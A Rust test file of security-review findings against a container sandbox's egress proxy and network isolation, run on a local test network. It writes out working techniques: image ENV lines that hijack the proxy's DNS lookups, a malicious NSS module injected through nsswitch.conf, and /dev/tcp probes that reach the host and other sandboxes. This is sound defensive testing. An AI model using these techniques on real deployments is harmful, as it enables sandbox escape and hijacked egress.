//! Security review findings against the real engine (branch `attack`):
//! each test fails while its finding stands.
//!
//! As in egress.rs, the "internet" is a stand-in on a test network of this
//! file's own; every name anything looks up is an alias there. Nothing is
//! sent off the machine; the one host port touched is a listener this test
//! process opens itself.

use std::process::{Command, Output, Stdio};
use std::time::Duration;

use odek_e2e::*;

fn egress_bin() -> String {
    match std::env::var("ODEK_EGRESS_BIN") {
        Ok(b) if !b.is_empty() => b,
        _ => panic!("ODEK_EGRESS_BIN is not set"),
    }
}

fn both(o: &Output) -> String {
    format!("{}{}", stdout(o), stderr(o))
}

/// A container on `net` under `aliases`, serving `body` over plain HTTP on
/// port 80; removed on drop.
struct Web {
    name: String,
}

impl Web {
    fn start(net: &str, aliases: &[&str], body: &str) -> Web {
        let name = unique("odek-e2e-attack-web-");
        let script = format!(
            "mkdir -p /tmp/www; echo {body} > /tmp/www/index.html; exec busybox httpd -f -p 80 -h /tmp/www"
        );
        let mut args = vec![
            "run",
            "-d",
            "--name",
            &name,
            "--label",
            TEST_LABEL,
            "--label",
            NS_LABEL,
            "--network",
            net,
        ];
        for a in aliases {
            args.extend_from_slice(&["--network-alias", a]);
        }
        args.extend_from_slice(&[BASE_IMAGE, "bash", "-c", &script]);
        docker(&args);
        let w = Web { name };
        assert!(
            wait_until(Duration::from_secs(20), || docker_ok(&[
                "exec",
                &w.name,
                "sh",
                "-c",
                "ss -ltn | grep -q ':80 '"
            ])),
            "{} did not listen on 80",
            w.name
        );
        w
    }
}

impl Drop for Web {
    fn drop(&mut self) {
        let _ = docker_ok(&["rm", "-f", &self.name]);
    }
}

/// An image built `FROM` the base image with `lines` added; removed on
/// drop.
struct DerivedImage {
    tag: String,
}

impl DerivedImage {
    fn build(lines: &str) -> DerivedImage {
        Self::build_with(lines, &[])
    }

    /// With `files` (name, bytes) in the build context.
    fn build_with(lines: &str, files: &[(&str, &[u8])]) -> DerivedImage {
        let tag = format!("{IMAGE_PREFIX}/attack-{}:1", random_hex(8));
        let dockerfile = format!("FROM {BASE_IMAGE}\nLABEL {TEST_LABEL}\n{lines}\n");
        let ctx = tempfile::tempdir().expect("context");
        std::fs::write(ctx.path().join("Dockerfile"), dockerfile).expect("Dockerfile");
        for (name, bytes) in files {
            std::fs::write(ctx.path().join(name), bytes).expect("context file");
        }
        let out = Command::new("docker")
            .args(["build", "-q", "-t", &tag])
            .arg(ctx.path())
            .stdin(Stdio::null())
            .output()
            .expect("docker build");
        assert!(out.status.success(), "docker build: {}", both(&out));
        DerivedImage { tag }
    }
}

impl Drop for DerivedImage {
    fn drop(&mut self) {
        let _ = docker_ok(&["rmi", "-f", &self.tag]);
    }
}

/// A detached sandbox, removed on drop.
struct Sb {
    p: Project,
    name: String,
}

impl Sb {
    fn up(args: &[&str]) -> Sb {
        let p = Project::new();
        let mut all = vec!["sandbox", "up"];
        all.extend_from_slice(args);
        let out = p.odek_ok(&all);
        let name = stdout(&out).trim().to_string();
        assert!(name.starts_with("odek-"), "no name: {name:?}");
        Sb { p, name }
    }

    fn sh(&self, script: &str) -> Output {
        self.p
            .run_odek(&["sandbox", "exec", &self.name, "--", "bash", "-c", script])
    }
}

impl Drop for Sb {
    fn drop(&mut self) {
        let _ = self.p.run_odek(&["sandbox", "down", &self.name]);
    }
}

/// Finding: the egress proxy runs from the sandbox's image and inherits
/// its `ENV` (odek sets `Env: []`, and the engine merges the image's), so
/// an image (a repository's `Dockerfile.odek`) steers the proxy's
/// resolver: `LOCALDOMAIN` + `RES_OPTIONS=ndots:N` make the proxy look a
/// listed name up under the image's search domain first, and dial what
/// that answers. Here `allowed.test` is listed; the "attacker" answers as
/// `allowed.test.evil`. The proxy must reach the real `allowed.test`.
#[test]
fn the_sandbox_image_does_not_steer_the_proxys_name_lookups() {
    fixture();
    egress_bin();
    let net = TestNetwork::create(&unique("odek-e2e-attack-out-"), &[]);
    let _real = Web::start(&net.name, &["allowed.test"], "the-real-allowed-host");
    let _evil = Web::start(&net.name, &["allowed.test.evil"], "the-attackers-host");
    let image = DerivedImage::build("ENV LOCALDOMAIN=evil RES_OPTIONS=ndots:5");
    let sb = Sb::up(&[
        "--sandbox-image",
        &image.tag,
        "--sandbox-egress-network",
        &net.name,
        "--sandbox-egress",
        "allowed.test",
    ]);
    let env = docker(&[
        "inspect",
        "-f",
        "{{json .Config.Env}}",
        &format!("{}-egress", sb.name),
    ]);
    let out = sb.sh("env -u LOCALDOMAIN -u RES_OPTIONS busybox wget -q -O- http://allowed.test/");
    let text = stdout(&out);
    assert!(
        !text.contains("the-attackers-host"),
        "the proxy dialled the image's choice for the listed name allowed.test (its env: {env}): {}",
        both(&out)
    );
    assert!(
        text.contains("the-real-allowed-host"),
        "the listed host was not reached: {}",
        both(&out)
    );
}

/// Finding: an `Internal` network keeps the host reachable at its
/// gateway address (the engine's isolation rules are FORWARD rules; a
/// packet to the bridge's own address is INPUT), and at the bridge's IPv6
/// link-local address. So a sandbox with "no route out" (egress mode, or
/// attached internal networks only) reaches every host service bound to
/// a wildcard address — a host-side HTTP proxy, a DNS resolver on
/// 0.0.0.0:53 (past the DNS closure of SPEC §4.6), the Docker API on
/// tcp://0.0.0.0:2375, sshd. Here: a listener this test opens on [::]
/// (dual stack).
#[test]
fn a_sandbox_with_no_route_out_does_not_reach_the_host_on_its_link_bridge() {
    fixture();
    egress_bin();
    let listener = std::net::TcpListener::bind("[::]:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    listener.set_nonblocking(true).expect("nonblocking");
    let net = TestNetwork::create(&unique("odek-e2e-attack-out-"), &[]);
    let sb = Sb::up(&[
        "--sandbox-image",
        BASE_IMAGE,
        "--sandbox-egress-network",
        &net.name,
        "--sandbox-egress",
        "allowed.test",
    ]);
    let link = format!("{}-link", sb.name);
    let gateway = docker(&[
        "network",
        "inspect",
        "-f",
        "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
        &link,
    ]);
    let link_id = docker(&["network", "inspect", "-f", "{{.Id}}", &link]);
    let bridge = format!("br-{}", &link_id[..12]);
    let host_ll = String::from_utf8_lossy(
        &Command::new("ip")
            .args(["-o", "-6", "addr", "show", "dev", &bridge, "scope", "link"])
            .output()
            .expect("ip")
            .stdout,
    )
    .split_whitespace()
    .nth(3)
    .and_then(|a| a.split('/').next())
    .unwrap_or_default()
    .to_string();
    let accepted = |what: &str| -> bool {
        std::thread::sleep(Duration::from_millis(300));
        let mut n = false;
        while let Ok((_, from)) = listener.accept() {
            eprintln!("{what}: the host listener accepted a connection from {from}");
            n = true;
        }
        n
    };
    eprintln!("gateway {gateway:?}, host link-local {host_ll:?} on {bridge}");
    let mut reached = Vec::new();
    if !gateway.is_empty() {
        let out = sb.sh(&format!(
            "timeout 3 bash -c 'exec 3<>/dev/tcp/{gateway}/{port}; echo hello-host >&3' 2>&1; echo rc=$?"
        ));
        if accepted("IPv4 gateway") {
            reached.push(format!("{gateway}:{port} ({})", both(&out).trim()));
        }
    }
    if !host_ll.is_empty() {
        let out = sb.sh(&format!(
            "i=$(ip -o link | awk -F': ' '$2 !~ /^lo/ {{print $2; exit}}' | cut -d@ -f1); timeout 3 bash -c \"exec 3<>/dev/tcp/{host_ll}%$i/{port}\" 2>&1; echo rc=$?"
        ));
        eprintln!(
            "host link-local {host_ll} on {bridge}: {}",
            both(&out).trim()
        );
        if accepted("IPv6 link-local") {
            reached.push(format!("[{host_ll}]:{port} ({})", both(&out).trim()));
        }
    }
    assert!(
        reached.is_empty(),
        "the sandbox (no route out) connected to a host listener through its link network: {reached:?}"
    );
}

/// Finding: the proxy is a static glibc binary (static-pie) and its name
/// lookups go through glibc's NSS, which reads `/etc/nsswitch.conf` and
/// dlopens `libnss_<service>.so.2` — from the sandbox's image, since the
/// proxy's root filesystem is that image. An image (a repository's
/// `Dockerfile.odek`, built without approval) that names its own NSS
/// service runs its code inside the proxy, the container that sits on
/// the egress network: the allowlist is then whatever that code wants.
/// Here the module (built with the host's cc, no libc) only writes a
/// marker to the proxy's stdout, its log.
#[test]
fn the_sandbox_image_runs_no_code_inside_the_egress_proxy() {
    fixture();
    egress_bin();
    let dir = tempfile::tempdir().expect("tmp");
    let src = dir.path().join("evil.c");
    std::fs::write(
        &src,
        "__attribute__((constructor)) static void pwn(void) {\n\
         static const char m[] = \"NSS-CODE-RAN-IN-THE-PROXY\\n\"; long r;\n\
         __asm__ volatile(\"syscall\" : \"=a\"(r) : \"a\"(1L), \"D\"(1L), \"S\"(m), \"d\"(sizeof m - 1) : \"rcx\", \"r11\", \"memory\"); }\n",
    )
    .expect("write evil.c");
    let so = dir.path().join("libnss_evil.so.2");
    let cc = Command::new("cc")
        .args(["-shared", "-fPIC", "-nostdlib", "-o"])
        .arg(&so)
        .arg(&src)
        .output()
        .expect("cc");
    assert!(cc.status.success(), "cc: {}", both(&cc));
    let module = std::fs::read(&so).expect("module");
    let image = DerivedImage::build_with(
        "COPY libnss_evil.so.2 /lib/x86_64-linux-gnu/libnss_evil.so.2\n\
         COPY libnss_evil.so.2 /usr/lib/libnss_evil.so.2\n\
         RUN printf 'hosts: evil files dns\\n' > /etc/nsswitch.conf",
        &[("libnss_evil.so.2", &module)],
    );
    let net = TestNetwork::create(&unique("odek-e2e-attack-out-"), &[]);
    let _real = Web::start(&net.name, &["allowed.test"], "the-real-allowed-host");
    let sb = Sb::up(&[
        "--sandbox-image",
        &image.tag,
        "--sandbox-egress-network",
        &net.name,
        "--sandbox-egress",
        "allowed.test",
    ]);
    let out = sb.sh("busybox wget -q -O- http://allowed.test/ 2>&1");
    std::thread::sleep(Duration::from_millis(300));
    let log = docker(&["logs", &format!("{}-egress", sb.name)]);
    assert!(
        !log.contains("NSS-CODE-RAN-IN-THE-PROXY"),
        "code from the sandbox's image ran inside the egress proxy; its log:\n{log}\nwget: {}",
        both(&out)
    );
}

/// In sandbox `sb`: the name of its interface whose IPv4 address lies in
/// `prefix` (e.g. `172.20.`), and that interface's IPv6 link-local address.
fn iface_in(sb: &Sb, prefix: &str) -> (String, Option<String>) {
    let out = sb.sh(&format!(
        "i=$(ip -o -4 addr | awk '$4 ~ /^{prefix}/ {{print $2; exit}}'); echo \"$i\"; ip -o -6 addr show dev \"$i\" scope link | awk '{{print $4}}' | cut -d/ -f1"
    ));
    let text = stdout(&out);
    let mut lines = text.lines();
    let iface = lines.next().unwrap_or_default().trim().to_string();
    let ll = lines
        .next()
        .map(|l| l.trim().to_string())
        .filter(|l| l.starts_with("fe80"));
    assert!(
        !iface.is_empty(),
        "no interface in {prefix}: {}",
        both(&out)
    );
    (iface, ll)
}

/// Finding candidate: `odek-out` turns inter-container traffic off
/// (`enable_icc=false`), which Docker 20.10 enforces with iptables for
/// IPv4 only; every interface still has an IPv6 link-local address when
/// the host has IPv6 on, and bridged IPv6 between two sandboxes is not
/// filtered. Two sandboxes (another user's, another agent's) that reach
/// the internet through `odek-out` then reach each other over fe80::.
/// A TCP connection attempt to a port nobody listens on tells: refused
/// (an RST came back: reached) or timed out (dropped).
#[test]
fn sandboxes_on_odek_out_do_not_reach_each_other_over_ipv6_link_local() {
    fixture();
    let net = TestNetwork::create(&unique("odek-e2e-attack-open-"), &[]);
    let a = Sb::up(&[
        "--sandbox-image",
        BASE_IMAGE,
        "--sandbox-networks",
        &net.name,
    ]);
    let b = Sb::up(&[
        "--sandbox-image",
        BASE_IMAGE,
        "--sandbox-networks",
        &net.name,
    ]);
    let subnet = docker(&[
        "network",
        "inspect",
        "-f",
        "{{range .IPAM.Config}}{{.Subnet}} {{end}}",
        "odek-out",
    ]);
    let v4 = subnet
        .split_whitespace()
        .find(|s| !s.contains(':'))
        .expect("odek-out IPv4 subnet");
    // The first two octets identify it well enough among this host's bridges.
    let prefix: String = {
        let octets: Vec<&str> = v4
            .split('/')
            .next()
            .unwrap_or_default()
            .split('.')
            .collect();
        format!("{}.{}.", octets[0], octets[1])
    };
    let (a_if, _) = iface_in(&a, &prefix);
    let (_, b_ll) = iface_in(&b, &prefix);
    let b_v4 = docker(&[
        "inspect",
        "-f",
        "{{(index .NetworkSettings.Networks \"odek-out\").IPAddress}}",
        &b.name,
    ]);
    // Control: IPv4 between them is dropped (ICC off).
    let v4_try = a.sh(&format!(
        "timeout 3 bash -c 'exec 3<>/dev/tcp/{b_v4}/7777' 2>&1; echo rc=$?"
    ));
    eprintln!(
        "odek-out {v4}: A's interface {a_if}; B's IPv4 {b_v4}, link-local {b_ll:?}; IPv4 try: {}",
        both(&v4_try).trim()
    );
    let Some(ll) = b_ll else {
        // No IPv6 link-local address in the sandbox: nothing to reach.
        eprintln!("no IPv6 link-local address in sandbox B");
        return;
    };
    let v6_try = a.sh(&format!(
        "timeout 3 bash -c 'exec 3<>/dev/tcp/{ll}%{a_if}/7777' 2>&1; echo rc=$?"
    ));
    let v6 = both(&v6_try);
    eprintln!("IPv6 try: {}", v6.trim());
    assert!(
        !v6.contains("refused"),
        "sandbox A reached sandbox B on odek-out over IPv6 link-local {ll}%{a_if} (a TCP RST came back); over IPv4 {b_v4}: {}\nIPv6: {v6}",
        both(&v4_try)
    );
}
